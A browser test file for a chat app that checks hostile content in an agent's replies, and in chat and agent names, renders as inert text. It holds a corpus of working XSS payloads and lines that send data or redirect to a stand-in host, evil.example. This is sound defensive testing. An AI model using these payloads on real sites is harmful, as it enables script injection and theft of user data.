import { say } from '@parley/testkit'
import { describe, expect, test } from 'vitest'
import { useBrowser } from './use-browser.ts'

const stage = useBrowser()

const corpus = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript:alert(1)">link</a> <a href="java\tscript:alert(1)">link</a>',
  '[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1)) <javascript:alert(1)>',
  '![x](javascript:alert(1)) ![x](x"onerror="alert(1))',
  '![tracker](https://evil.example/pixel.png?secret=1)',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>body{display:none}</style><link rel=stylesheet href="https://evil.example/x.css">',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]-->B; click A "javascript:alert(1)"\n```',
  '$\\href{javascript:alert(1)}{x}$ $$\\unicode{<img src=x onerror=alert(1)>}$$',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |',
  '"><img src=x onerror=alert(1)>{{constructor.constructor("alert(1)")()}}${alert(1)}',
  '<x onclick=alert(1) onmouseover=alert(1) style="position:fixed;inset:0;z-index:99999;background:red">cover</x>',
  '[ref]: javascript:alert(1)\n\n[ref]',
  '<a href="//evil.example" target="_blank">out</a> https://evil.example/path',
]

describe('WS-11.1#4 hostile answers', () => {
  test('WS-11.1#4 the corpus in an agent’s answer runs nothing, loads nothing and covers nothing', async () => {
    const { parley } = stage()
    const agent = await parley.cast.agent(parley.cast.name('Mallory'))
    const dm = await parley.owner.dm({ agentId: agent.id })
    const { app, page, watch } = await stage().open()
    // Mermaid measures texts with a style element; the policy refuses it, and the app lends its rules in another way.
    watch.allow(/style-src/)
    const foreign: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(app.baseUrl) && !/^(data|blob):/.test(request.url())) foreign.push(request.url())
    })
    await app.enter(parley.owner.token)
    await app.openChat(dm.id)
    for (const payload of corpus) {
      parley.model.reply(say(`${payload}\n\nend`, { chunkSize: 7 }))
      const before = await app.messages.count()
      await app.composer.fill('next')
      await app.composer.press('Enter')
      await expect.poll(() => app.messages.count()).toBe(before + 2)
      await expect.poll(() => app.messages.last().innerText()).toContain('end')
      const found = await app.feed.evaluate((feed) => {
        const bad = feed.querySelectorAll(
          'script, iframe, object, embed, form, base, meta, link, style, math mglyph, animate, [srcdoc]',
        )
        const handlers = [...feed.querySelectorAll('*')].filter((element) =>
          [...element.attributes].some((attribute) => attribute.name.startsWith('on')),
        )
        const links = [...feed.querySelectorAll('a[href]')].filter(
          (link) => !/^(https?:|mailto:|tel:|\/|#)/i.test(link.getAttribute('href') ?? ''),
        )
        const unsafeTargets = [...feed.querySelectorAll('a[target=_blank]')].filter(
          (link) => !/noopener|noreferrer/.test(link.getAttribute('rel') ?? ''),
        )
        const fixed = [...feed.querySelectorAll('[style]')].filter(
          (element) => getComputedStyle(element).position === 'fixed',
        )
        return [...bad, ...handlers, ...links, ...unsafeTargets, ...fixed].map((element) =>
          element.outerHTML.slice(0, 200),
        )
      })
      expect(found, payload).toEqual([])
    }
    expect(foreign).toEqual([])
    expect(await page.title()).not.toContain('alert')
    for (const { x, y } of [
      { x: 30, y: 30 },
      { x: 700, y: 450 },
    ]) {
      expect(
        await page.evaluate(([px, py]) => document.elementFromPoint(px, py)?.textContent, [x, y] as const),
      ).not.toBe('cover')
    }
  }, 120_000)

  test('WS-11.1#4 hostile names of chats, agents and people are text', async () => {
    const { parley } = stage()
    const name = '<img src=x onerror=alert(1)>'
    const agent = await parley.cast.agent(name, { description: '<script>alert(1)</script>', avatar: '<b>x</b>' })
    const group = await parley.owner.group({ name, agentIds: [agent.id], avatar: 'javascript:alert(1)' })
    const { app, page } = await stage().open()
    await app.enter(parley.owner.token)
    await app.openChat(group.id)
    await page.getByRole('heading', { name, level: 1 }).waitFor()
    await page.goto(`${app.baseUrl}/agents`)
    await page.getByText(name).first().waitFor()
    expect(await page.locator('img[src="x"]').count()).toBe(0)
  })
})
